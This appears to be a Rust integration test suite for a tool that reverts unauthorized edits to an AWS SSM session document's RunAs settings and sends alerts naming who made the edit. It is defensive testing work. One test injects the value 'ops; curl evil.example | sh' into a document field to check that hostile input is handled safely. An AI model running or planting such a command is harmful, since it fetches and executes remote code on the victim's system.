//! Drift reversal: an unauthorized edit is undone in one invocation and the
//! alert says who did it. Edits are made in the member account by an `Admin`
//! role, never by runas-guard's.

use crate::common;

use common::*;
use serde_json::{json, Value};

const R: &str = "eu-west-1";

/// An organization with one account already configured (version 1 compliant).
async fn configured() -> (World, String) {
    let w = World::new().await;
    w.write_policy("[exempt]\nprincipals = [\"arn:aws:iam::*:role/AWSAccelerator*\"]\n");
    let account = w.create_account("member", None).await;
    for region in REGIONS {
        w.admin_write(&account, region, &lza_document(&account), true)
            .await;
    }
    let (code, out) = w.handle(&vend_event(&account));
    assert_eq!(code, 0, "{out:#}");
    w.alerts().await;
    (w, account)
}

async fn current(w: &World, account: &str) -> Value {
    w.document(account, R).await.unwrap().0
}

fn assert_compliant(doc: &Value, user: &str) {
    assert_eq!(run_as(doc), (json!(true), json!(user)), "{doc:#}");
}

async fn assert_default_is_latest(w: &World, account: &str) -> String {
    let (_, default, latest) = w.document(account, R).await.unwrap();
    assert_eq!(default, latest, "default must be the latest version");
    default
}

#[tokio::test(flavor = "multi_thread")]
async fn changed_user_is_reverted_and_alert_names_the_actor() {
    let (w, account) = configured().await;
    let mut doc = current(&w, &account).await;
    doc["inputs"]["runAsDefaultUser"] = json!("root");
    let edited = w.admin_write(&account, R, &doc, true).await;

    let event = doc_event("UpdateDocument", &account, R, "Admin");
    let (code, out) = w.handle(&event);
    assert_eq!(code, 0, "{out:#}");
    let after = current(&w, &account).await;
    assert_compliant(&after, "ssm-ops");
    // Restoring recreates content an older version already holds
    // (DuplicateDocumentContent): a new layout, same meaning, made default.
    let version = assert_default_is_latest(&w, &account).await;
    assert!(version.parse::<u32>().unwrap() > edited.parse::<u32>().unwrap());
    doc["inputs"]["runAsDefaultUser"] = json!("ssm-ops");
    assert_eq!(after, doc, "nothing but RunAs changed");

    let alerts = w.alerts().await;
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let m = &alerts[0]["message"];
    assert_eq!(m["kind"], "drift_reverted");
    assert_eq!(m["severity"], "warning");
    assert_eq!(m["account"], account.as_str());
    assert_eq!(m["region"], R);
    assert_eq!(m["actor"], format!("arn:aws:iam::{account}:role/Admin"));
    assert_eq!(m["source_ip"], event["detail"]["sourceIPAddress"]);
    assert_eq!(m["user_agent"], event["detail"]["userAgent"]);
    assert_eq!(m["event_time"], event["detail"]["eventTime"]);
    assert_eq!(m["before"]["runAsDefaultUser"], "root");
    assert_eq!(m["after"]["runAsDefaultUser"], "ssm-ops");
    assert_eq!(m["versions_before"]["default"], edited.as_str());
    assert_eq!(m["version_after"], version.as_str());
    assert_eq!(m["trigger_id"], event["id"]);
    assert!(m["at"].as_str().unwrap().ends_with('Z'));
    let subject = alerts[0]["subject"].as_str().unwrap();
    assert!(
        subject.contains("role/Admin") && subject.contains(&account) && subject.contains(R),
        "{subject}"
    );

    let history = w.history(&account).await;
    let revert = history
        .iter()
        .find(|h| h["status"] == "reverted")
        .expect("a reverted history row");
    assert_eq!(
        revert["actor"],
        format!("arn:aws:iam::{account}:role/Admin")
    );
    assert_eq!(revert["region"], R);
    assert!(revert["before"].contains("root"));
    assert!(revert.contains_key("ttl"));
    let state = w.state(&account, R).await.unwrap();
    assert_eq!(state["status"], "reverted");
    assert_eq!(
        state["last_actor"],
        format!("arn:aws:iam::{account}:role/Admin")
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn other_inputs_edited_with_runas_keep_the_editors_values() {
    let (w, account) = configured().await;
    let mut doc = current(&w, &account).await;
    doc["inputs"]["s3KeyPrefix"] = json!("new/prefix");
    doc["inputs"]["runAsDefaultUser"] = json!("someone");
    w.admin_write(&account, R, &doc, true).await;
    let (code, _) = w.handle(&doc_event("UpdateDocument", &account, R, "Admin"));
    assert_eq!(code, 0);
    let after = current(&w, &account).await;
    assert_compliant(&after, "ssm-ops");
    assert_eq!(
        after["inputs"]["s3KeyPrefix"], "new/prefix",
        "we own two inputs, nothing else"
    );
    assert_default_is_latest(&w, &account).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn bad_latest_that_is_not_default_gets_a_version_on_top() {
    let (w, account) = configured().await;
    let mut doc = current(&w, &account).await;
    doc["inputs"]["runAsEnabled"] = json!(false);
    doc["inputs"]["idleSessionTimeout"] = json!("60");
    let bad = w.admin_write(&account, R, &doc, false).await;
    let (code, out) = w.handle(&doc_event("UpdateDocument", &account, R, "Admin"));
    assert_eq!(code, 0, "{out:#}");
    let version = assert_default_is_latest(&w, &account).await;
    assert!(version.parse::<u32>().unwrap() > bad.parse::<u32>().unwrap());
    let after = current(&w, &account).await;
    assert_compliant(&after, "ssm-ops");
    assert_eq!(
        after["inputs"]["idleSessionTimeout"], "60",
        "merge base is the latest version"
    );
    assert_eq!(w.alerts().await.len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn deleted_document_is_recreated() {
    let (w, account) = configured().await;
    w.admin_ssm(&account, R)
        .await
        .delete_document()
        .name(DOC)
        .send()
        .await
        .unwrap();
    let (code, out) = w.handle(&doc_event("DeleteDocument", &account, R, "Admin"));
    assert_eq!(code, 0, "{out:#}");
    assert_compliant(&current(&w, &account).await, "ssm-ops");
    assert_default_is_latest(&w, &account).await;
    let alerts = w.alerts().await;
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0]["message"]["kind"], "drift_reverted");
    assert!(
        alerts[0]["message"]["before"].is_null(),
        "there was no document"
    );
    assert_eq!(out["accounts"][0]["regions"][0]["action"], "created");
}

#[tokio::test(flavor = "multi_thread")]
async fn hostile_values_and_unknown_keys_are_handled_like_any_other() {
    let (w, account) = configured().await;
    let mut doc = current(&w, &account).await;
    doc["inputs"]["runAsEnabled"] = json!("false");
    doc["inputs"]["runAsDefaultUser"] = json!("ops; curl evil.example | sh");
    doc["inputs"]["x-unknown-input"] = json!({"nested": [1, 2, 3]});
    doc["x-top-level"] = json!("kept");
    w.admin_write(&account, R, &doc, true).await;
    let (code, _) = w.handle(&doc_event("UpdateDocument", &account, R, "Admin"));
    assert_eq!(code, 0);
    let after = current(&w, &account).await;
    assert_compliant(&after, "ssm-ops");
    assert_eq!(
        after["inputs"]["runAsEnabled"],
        json!(true),
        "a real boolean is written"
    );
    assert_eq!(
        after["inputs"]["x-unknown-input"],
        json!({"nested": [1, 2, 3]})
    );
    assert_eq!(after["x-top-level"], "kept");
    assert_default_is_latest(&w, &account).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn no_write_when_runas_is_already_right() {
    let (w, account) = configured().await;
    let mut doc = current(&w, &account).await;
    doc["inputs"]["s3KeyPrefix"] = json!("changed/by/admin");
    let v = w.admin_write(&account, R, &doc, true).await;
    let (code, out) = w.handle(&doc_event("UpdateDocument", &account, R, "Admin"));
    assert_eq!(code, 0, "{out:#}");
    assert_eq!(out["accounts"][0]["regions"][0]["action"], "none");
    assert_eq!(
        assert_default_is_latest(&w, &account).await,
        v,
        "no new version"
    );
    assert!(w.alerts().await.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn own_writes_are_reconciled_and_silent() {
    let (w, account) = configured().await;
    let v = assert_default_is_latest(&w, &account).await;
    // The vend's own writes come back as events, under our role and session name.
    for name in ["UpdateDocument", "UpdateDocumentDefaultVersion"] {
        let ours = doc_event_as(name, &account, R, "RunAsGuardExecution", "runas-guard-e1");
        let (code, out) = w.handle(&ours);
        assert_eq!(code, 0, "{out:#}");
        assert_eq!(out["result"], "done", "reconciled, not skipped: {out:#}");
        assert_eq!(out["accounts"][0]["regions"][0]["action"], "none");
    }
    assert_eq!(assert_default_is_latest(&w, &account).await, v);
    assert!(w.alerts().await.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_session_named_like_ours_is_no_free_pass() {
    let (w, account) = configured().await;
    w.console_edit(&account, R, "backdoor").await;
    // An administrator chose our session prefix on a shared fallback role.
    let event = doc_event_as(
        "UpdateDocument",
        &account,
        R,
        "OrganizationAccountAccessRole",
        "runas-guard-innocent",
    );
    let (code, out) = w.handle(&event);
    assert_eq!(code, 0, "{out:#}");
    assert_eq!(
        out["accounts"][0]["regions"][0]["action"], "updated",
        "{out:#}"
    );
    assert_compliant(&current(&w, &account).await, "ssm-ops");
    let alerts = w.alerts().await;
    assert_eq!(alerts.len(), 1, "{alerts:#?}");
    let m = &alerts[0]["message"];
    assert_eq!(m["kind"], "drift_reverted");
    assert_eq!(
        m["actor"],
        format!("arn:aws:iam::{account}:role/OrganizationAccountAccessRole")
    );
    assert_eq!(m["before"]["runAsDefaultUser"], "backdoor");
}

#[tokio::test(flavor = "multi_thread")]
async fn expected_editors_are_never_tamperers() {
    let (w, account) = configured().await;
    let lza_role = "AWSAccelerator-CustomizationsRole";
    // LZA changes only logging inputs: nothing written, nothing alerted.
    let mut doc = current(&w, &account).await;
    doc["inputs"]["cloudWatchLogGroupName"] = json!("new-group");
    let v = w.admin_write(&account, R, &doc, true).await;
    let (code, out) = w.handle(&doc_event("UpdateDocument", &account, R, lza_role));
    assert_eq!(code, 0, "{out:#}");
    assert_eq!(assert_default_is_latest(&w, &account).await, v);
    assert!(w.alerts().await.is_empty());
    // An old LZA resets runAsEnabled: restored, with an info alert.
    doc["inputs"]["runAsEnabled"] = json!(false);
    w.admin_write(&account, R, &doc, true).await;
    let (code, _) = w.handle(&doc_event("UpdateDocument", &account, R, lza_role));
    assert_eq!(code, 0);
    let after = current(&w, &account).await;
    assert_compliant(&after, "ssm-ops");
    assert_eq!(after["inputs"]["cloudWatchLogGroupName"], "new-group");
    let alerts = w.alerts().await;
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0]["message"]["kind"], "drift_reverted");
    assert_eq!(alerts[0]["message"]["severity"], "info");
    assert_eq!(alerts[0]["attributes"]["severity"]["Value"], "info");
}

#[tokio::test(flavor = "multi_thread")]
async fn third_revert_within_an_hour_is_tamper_repeated() {
    let (w, account) = configured().await;
    let mut kinds = Vec::new();
    for i in 0..4 {
        let mut doc = current(&w, &account).await;
        doc["inputs"]["runAsDefaultUser"] = json!(format!("intruder{i}"));
        w.admin_write(&account, R, &doc, true).await;
        let (code, _) = w.handle(&doc_event("UpdateDocument", &account, R, "Admin"));
        assert_eq!(code, 0);
        let alerts = w.alerts().await;
        assert_eq!(alerts.len(), 1, "exactly one alert per revert");
        kinds.push((
            alerts[0]["message"]["kind"].as_str().unwrap().to_string(),
            alerts[0]["message"]["severity"]
                .as_str()
                .unwrap()
                .to_string(),
        ));
    }
    let want = [
        ("drift_reverted", "warning"),
        ("drift_reverted", "warning"),
        ("tamper_repeated", "critical"),
        ("tamper_repeated", "critical"),
    ];
    assert_eq!(kinds, want.map(|(k, s)| (k.to_string(), s.to_string())));
    assert_eq!(
        w.history(&account)
            .await
            .iter()
            .filter(|h| h["status"] == "reverted")
            .count(),
        4
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn same_event_twice_is_one_revert_and_one_alert() {
    let (w, account) = configured().await;
    let mut doc = current(&w, &account).await;
    doc["inputs"]["runAsEnabled"] = json!(false);
    w.admin_write(&account, R, &doc, true).await;
    let event = doc_event("UpdateDocument", &account, R, "Admin");
    assert_eq!(w.handle(&event).0, 0);
    let v = assert_default_is_latest(&w, &account).await;
    let (code, out) = w.handle(&event);
    assert_eq!(code, 0);
    assert_eq!(out["result"], "duplicate");
    assert_eq!(assert_default_is_latest(&w, &account).await, v);
    assert_eq!(w.alerts().await.len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn concurrent_invocations_make_one_version_and_one_alert() {
    let (w, account) = configured().await;
    let mut doc = current(&w, &account).await;
    doc["inputs"]["runAsDefaultUser"] = json!("racer");
    let bad = w.admin_write(&account, R, &doc, true).await;
    let changes_before: i64 = w.state(&account, R).await.unwrap()["changes"]
        .parse()
        .unwrap();
    let a = w.handle_in_background(&doc_event("UpdateDocument", &account, R, "Admin"));
    let b = w.handle_in_background(&doc_event("UpdateDocument", &account, R, "Admin"));
    for run in [a.join().unwrap(), b.join().unwrap()] {
        assert_eq!(run.code, 0, "{}\n{}", run.stdout, run.stderr);
    }
    let version: u32 = assert_default_is_latest(&w, &account)
        .await
        .parse()
        .unwrap();
    assert_eq!(
        version,
        bad.parse::<u32>().unwrap() + 1,
        "one corrective version"
    );
    assert_compliant(&current(&w, &account).await, "ssm-ops");
    assert_eq!(w.alert_kinds().await, ["drift_reverted"]);
    let state = w.state(&account, R).await.unwrap();
    assert_eq!(
        state["changes"].parse::<i64>().unwrap(),
        changes_before + 1,
        "one change recorded: {state:#?}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn late_event_after_the_fix_does_nothing() {
    let (w, account) = configured().await;
    let mut doc = current(&w, &account).await;
    doc["inputs"]["runAsDefaultUser"] = json!("early");
    w.admin_write(&account, R, &doc, true).await;
    assert_eq!(
        w.handle(&doc_event("UpdateDocument", &account, R, "Admin"))
            .0,
        0
    );
    assert_eq!(w.alerts().await.len(), 1);
    let v = assert_default_is_latest(&w, &account).await;
    // The same edit's UpdateDocumentDefaultVersion event arrives late.
    let (code, out) = w.handle(&doc_event(
        "UpdateDocumentDefaultVersion",
        &account,
        R,
        "Admin",
    ));
    assert_eq!(code, 0);
    assert_eq!(out["accounts"][0]["regions"][0]["action"], "none");
    assert_eq!(assert_default_is_latest(&w, &account).await, v);
    assert!(w.alerts().await.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn events_outside_scope_are_ignored_without_state() {
    let (w, account) = configured().await;
    // Receipts aside, and the coalescing gate: it is written before the
    // organization is read (a flood costs no Organizations call), holds only
    // when a run began, and expires in a day.
    let not_receipts = |items: Vec<std::collections::HashMap<String, String>>| {
        items
            .into_iter()
            .filter(|i| !i["pk"].starts_with("EVENT#") && !i["pk"].starts_with("GATE#"))
            .count()
    };
    let before = not_receipts(w.items().await);
    let (code, out) = w.handle(&doc_event(
        "UpdateDocument",
        &account,
        "ap-southeast-2",
        "Admin",
    ));
    assert_eq!(code, 0);
    assert_eq!(out["result"], "ignored");
    assert!(
        out["reason"].as_str().unwrap().contains("not governed"),
        "{out:#}"
    );
    let (code, out) = w.handle(&doc_event("UpdateDocument", "999988887777", R, "Admin"));
    assert_eq!(code, 0);
    assert_eq!(out["result"], "ignored");
    assert!(
        out["reason"]
            .as_str()
            .unwrap()
            .contains("not in this organization"),
        "{out:#}"
    );
    // Receipts only: no account-region state, no history.
    assert_eq!(not_receipts(w.items().await), before);
    assert!(w.alerts().await.is_empty());
}

#[tokio::test(flavor = "multi_thread")]
async fn audit_mode_detects_and_never_writes() {
    let (w, account) = configured().await;
    w.write_policy("mode = \"audit\"");
    let mut doc = current(&w, &account).await;
    doc["inputs"]["runAsEnabled"] = json!(false);
    let v = w.admin_write(&account, R, &doc, true).await;
    let (code, _) = w.handle(&doc_event("UpdateDocument", &account, R, "Admin"));
    assert_eq!(code, 0);
    assert_eq!(
        assert_default_is_latest(&w, &account).await,
        v,
        "audit never writes"
    );
    let alerts = w.alerts().await;
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0]["message"]["kind"], "drift_detected");
    assert_eq!(
        alerts[0]["message"]["actor"],
        format!("arn:aws:iam::{account}:role/Admin")
    );
    assert_eq!(
        w.state(&account, R).await.unwrap()["status"],
        "noncompliant"
    );
}
